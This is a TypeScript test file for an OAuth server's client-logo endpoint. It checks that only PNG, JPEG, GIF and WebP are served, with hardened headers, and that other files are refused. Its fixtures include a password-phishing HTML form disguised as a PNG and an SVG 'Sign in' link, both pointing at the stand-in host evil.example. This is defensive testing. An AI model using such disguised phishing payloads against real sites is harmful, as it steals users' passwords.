/** A client's logo is a stranger's document on our own origin. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { confidentialClient } from '../../support/flow.ts';
import { startServer, type TestServer } from '../../support/server.ts';
import { createUserAgent } from '../../support/user-agent.ts';

const HTML = '<!doctype html><form action="https://evil.example/">Password: <input name="password"></form>';
const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://evil.example/"><text>Sign in</text></a></svg>';
const FILES: Readonly<Record<string, readonly [type: string, body: Buffer]>> = {
  png: ['image/png', Buffer.from('89504e470d0a1a0a0000000d', 'hex')],
  jpeg: ['image/jpg', Buffer.from('ffd8ffe000104a4649460001', 'hex')],
  gif: ['application/octet-stream', Buffer.from('GIF89a and more')],
  webp: ['image/webp', Buffer.from('RIFF\x10\x00\x00\x00WEBPVP8 ')],
  svg: ['image/svg+xml', Buffer.from(SVG)],
  disguised: ['image/png', Buffer.from(HTML)],
  xml: ['image/gif', Buffer.from(`<?xml version="1.0"?>${SVG}`)],
};

let server: TestServer;
let site: Server;

beforeAll(async () => {
  site = createServer((request, response) => {
    const [type, body] = FILES[(request.url ?? '').slice(1)] ?? ['text/plain', Buffer.from('?')];
    response.writeHead(200, { 'content-type': type }).end(body);
  });
  await new Promise<void>((done) => site.listen(0, '127.0.0.1', done));
  server = await startServer({ environment: { GATEHOUSE_OUTBOUND_ALLOW: '127.0.0.0/8' } });
});
afterAll(async () => {
  site.close();
  await server.stop();
});

async function logo(file: string, headers: Record<string, string> = {}, client_id?: string) {
  const logo_uri = `http://127.0.0.1:${(site.address() as AddressInfo).port}/${file}`;
  const { client } = await confidentialClient(server, { logo_uri, client_id });
  return createUserAgent(server.issuer).fetch(`${server.issuer}/client-logo/${client.client_id}`, {
    headers,
  });
}

test.each(['png', 'jpeg', 'gif', 'webp'])(
  'a %s is served with the type of its bytes, as an attachment',
  async (file) => {
    for (const headers of [{}, { 'sec-fetch-dest': 'image' }] as Record<string, string>[]) {
      const page = await logo(file, headers);
      expect(page.status).toBe(200);
      expect(page.headers.get('content-type')).toBe(`image/${file}`);
      expect(page.headers.get('content-disposition')).toBe(`attachment; filename="logo.${file}"`);
      expect(page.headers.get('x-content-type-options')).toBe('nosniff');
      expect(page.headers.get('content-security-policy')).toBe(
        "default-src 'none'; frame-ancestors 'none'; sandbox",
      );
      expect(page.headers.get('cross-origin-resource-policy')).toBe('same-origin');
    }
  },
);

test.each(['svg', 'disguised', 'xml'])(
  'a file that is not a raster image is not served: %s',
  async (file) => {
    const page = await logo(file, { 'sec-fetch-dest': 'image' });
    expect(page.status).toBe(404);
    expect(page.body).not.toContain('evil.example');
    expect(server.lines.at(-1)).toBeDefined();
    expect(server.lines.join('')).toContain('a logo is PNG, JPEG, GIF or WebP');
  },
);

test.each(['document', 'iframe', 'object', 'embed', 'script', 'empty'])(
  'a logo that is requested as %s is refused with an error page',
  async (destination) => {
    const page = await logo('png', { 'sec-fetch-dest': destination });
    expect(page.status).toBe(403);
    expect(page.headers.get('content-type')).toContain('text/html');
    expect(page.body).toContain('is no page itself');
  },
);

test('the logo of a client with a long client_id is found', async () => {
  expect((await logo('png', {}, 'c'.repeat(128))).status).toBe(200);
});
